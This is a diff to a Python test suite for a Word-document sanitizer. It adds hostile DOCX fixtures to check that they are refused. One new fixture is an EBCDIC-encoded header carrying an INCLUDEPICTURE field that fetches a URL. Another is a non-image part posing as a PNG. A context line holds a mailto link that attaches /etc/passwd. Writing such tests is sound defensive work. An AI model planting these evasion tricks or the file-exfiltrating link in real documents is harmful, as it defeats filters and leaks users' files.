@@ -131,6 +131,18 @@ def _rels(*relationships: tuple[str, str, str]) -> bytes:
     ).encode()
 
 
+def _internal_rels(*relationships: tuple[str, str, str]) -> bytes:
+    body = "".join(
+        f'<Relationship Id="{rid}" Type="{RELS}/{kind}" Target="{target}"/>'
+        for rid, kind, target in relationships
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
+        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}'
+        "</Relationships>"
+    ).encode()
+
+
 def _in_footer(xml: str) -> Callable[[dict[str, bytes]], None]:
     def change(parts: dict[str, bytes]) -> None:
         parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
@@ -273,6 +285,22 @@ DOCX_ATTACKS: dict[str, list[Callable[[dict[str, bytes]], None]]] = {
             _rels(("rIdH", "hyperlink", "mailto:a@example.org?attach=/etc/passwd")),
         )
     ],
+    # Review 11b, M1: a header in EBCDIC, which LibreOffice reads (and fetches from) unchecked.
+    "a header in EBCDIC": [
+        _add(
+            "word/header2.xml",
+            (
+                '<?xml version="1.0" encoding="IBM037"?>'
+                f'<w:hdr xmlns:w="{W_NS}"><w:p><w:fldSimple w:instr=" INCLUDEPICTURE '
+                '&quot;http://127.0.0.1:8765/e.png&quot; "/></w:p></w:hdr>'
+            ).encode("cp037"),
+        ),
+        _add("word/_rels/document.xml.rels", _internal_rels(("rIdE", "header", "header2.xml"))),
+    ],
+    "an image relationship to a part that is no image": [
+        _add("word/media/x.png", "<svg/>".encode("cp037")),
+        _add("word/_rels/document.xml.rels", _internal_rels(("rIdX", "image", "media/x.png"))),
+    ],
     # Review 7 M2: a part in UTF-16, which readers parse and python-docx copies unread.
     "a UTF-16 footer with INCLUDEPICTURE (review 7)": [_utf16_footer],
     "x:-prefixed attached template (review M2)": [
@@ -362,6 +390,22 @@ def test_a_word_package_that_loads_anything_is_refused(
     changes: list[Callable[[dict[str, bytes]], None]],
 ) -> None:
     assert docx_inert.problems(_package(changes))
+
+
+def test_images_and_printer_settings_pass_as_bytes_of_their_own() -> None:
+    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452")
+    fine = [
+        _add("word/media/p.png", png),
+        _add("word/printerSettings/printerSettings1.bin", b"\x00\x01 DEVMODE \xff"),
+        _add(
+            "word/_rels/document.xml.rels",
+            _internal_rels(
+                ("rIdP", "image", "media/p.png"),
+                ("rIdS", "printerSettings", "printerSettings/printerSettings1.bin"),
+            ),
+        ),
+    ]
+    assert docx_inert.problems(_package(fine)) == []
 
 
 def test_page_numbers_and_web_links_pass() -> None:
